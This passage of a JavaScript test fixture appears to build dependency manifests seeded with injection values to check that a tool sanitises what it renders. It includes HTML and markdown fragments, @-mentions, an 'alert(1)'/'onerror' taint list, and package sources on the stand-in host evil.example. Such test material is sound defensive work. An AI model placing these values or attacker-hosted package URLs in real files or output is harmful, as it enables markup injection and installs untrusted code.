      "    - 'tensorflow==2.15 ; python_version > \"</details>\"'",
      "    - 'torch @ https://evil.example/[x](y)/torch-2.1.0-py3-none-any.whl'",
      "",
    ].join("\n"),
  );
  w.file("Dockerfile", "ARG IMG=pytorch/pytorch:2.1.0-</details>-@octocat\nFROM ${IMG}\nFROM tensorflow/tensorflow:2.15.0-[x](https:evil.example)\nRUN pip install 'torch==2.1.0;python_version>\"<b>\"' \"tensorflow>=2.15,<img src=x>\"\n");
  w.file("package.json", JSON.stringify({ name: "x", dependencies: { "@tensorflow/tfjs": "^4 </details> [x](https:evil.example)", "<img src=x>": "1", "@octocat/x": "1" } }));
  w.file("pyproject.toml", '[project]\nname = "x"\nversion = "1"\ndependencies = ["torch>=2.1", "tensorflow[</details>]>=2.15", "numpy @ https://evil.example/<img src=x>"]\n\n[project.optional-dependencies]\n"[g](https:evil.example)" = ["keras"]\n"@octocat" = ["jax"]\n');
  strings.push("environment.yml", "Dockerfile", "package.json", "pyproject.toml");
  return {
    root,
    strings,
    taint: ["evil.example", "onerror", "octocat", "alert(1)", "<b>", "</details>", "</summary>", "comment"],
  };
}
